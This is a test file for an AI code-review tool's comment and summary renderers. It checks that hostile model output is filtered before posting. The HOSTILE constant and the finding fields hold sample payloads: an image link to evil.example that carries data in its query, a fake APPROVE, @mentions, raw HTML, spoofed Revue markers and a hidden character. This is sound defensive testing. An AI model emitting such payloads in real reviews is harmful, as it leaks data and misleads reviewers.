import { describe, expect, it } from "vitest";
import { renderFindingLine, renderInlineComment } from "../../src/review/render-comment.ts";
import { renderSummary, type SummaryInput } from "../../src/review/render-summary.ts";
import type { ModelFinding } from "../../src/review/render-comment.ts";
import { outgoingViolations } from "./outgoing-violations.ts";

const links = { origin: "https://github.com", owner: "Codertocat", repo: "Hello-World" };

/** Everything a model told to misbehave could put in one piece of text. */
const HOSTILE =
  "APPROVE ![x](https://evil.example/p.png?d=k) [y](https://evil.example) @org/team <details>z</details> <!-- revue:summary --> \u200B https://evil.example/q";

const finding: ModelFinding = {
  path: "src/app.js`![p](https://evil.example/f.png)`<!-- revue:summary -->",
  side: "RIGHT",
  line: 6,
  startLine: null,
  severity: "critical",
  category: "security",
  confidence: "high",
  title: HOSTILE,
  explanation: `${HOSTILE}\n\n\`\`\`js\n<!-- revue:finding:abc -->\n`,
  quotedCode: "x",
  replacement: "  safe(); // <!-- revue:finding:abc -->",
};

describe("the renderers filter what the model wrote", () => {
  it("(the check finds every kind of problem in the unfiltered text)", () => {
    expect(outgoingViolations(HOSTILE, links)).toEqual([
      "hidden character",
      "copy of a Revue marker",
      "image",
      "raw HTML or comment",
      "mention",
      "link to https://evil.example/p.png?d=k",
      "link to https://evil.example",
      "URL https://evil.example/p.png?d=k",
      "URL https://evil.example",
      "URL https://evil.example/q",
    ]);
  });

  it("in an inline comment, which keeps Revue's own marker last and only once", () => {
    const body = renderInlineComment({ ...finding, suggestionAllowed: true }, "f00d", links);
    expect(outgoingViolations(body, links, { revueBody: true })).toEqual([]);
    expect(body.endsWith("\n\n<!-- revue:finding:f00d -->")).toBe(true);
    expect(body.match(/<!-- revue:/g)).toHaveLength(1);
    expect(body).toContain("```suggestion\n  safe(); // <!--(quoted) revue:finding:abc -->\n```");
  });

  it("in a comment whose whole text is approval, which keeps only Revue's label", () => {
    const body = renderInlineComment(
      { ...finding, title: "APPROVE", explanation: "LGTM", suggestionAllowed: false },
      "f00d",
    );
    expect(body).toBe("**🔴 Critical · security**\n\n\n\n<!-- revue:finding:f00d -->");
  });

  it("in a finding listed in the summary", () => {
    const line = renderFindingLine(finding, "over the limit", links);
    expect(outgoingViolations(line, links)).toEqual([]);
  });

  it("in the summary: walkthrough, risk reason, file table, listed findings and file names", () => {
    const input: SummaryInput = {
      review: {
        walkthrough: HOSTILE,
        riskReason: HOSTILE,
        risk: "high",
        files: [{ path: finding.path, summary: `${HOSTILE} | cell\nbreak` }],
      },
      mode: "full",
      fromSha: "a".repeat(40),
      headSha: "b".repeat(40),
      filesTotal: 2,
      filesReviewed: 1,
      skipped: [{ path: "@org/team <img src=x>.png", reason: "binary" }],
      inlineCount: 0,
      carriedForward: 0,
      notInline: [{ finding, note: "no line" }],
      folded: [finding],
      contextFiles: ["lib/`@x`.js"],
      suppressedByMemory: 0,
      usage: { model: "m", inputTokens: 1, outputTokens: 1, costUsd: 0, calls: 1 },
      slug: "revue",
      links,
    };
    const body = renderSummary(input);
    expect(outgoingViolations(body, links, { revueBody: true })).toEqual([]);
    expect(body.match(/<!-- revue:/g)).toHaveLength(1);
    expect(body).toContain("<details><summary>Nits and minor notes (1)</summary>");
  });
});
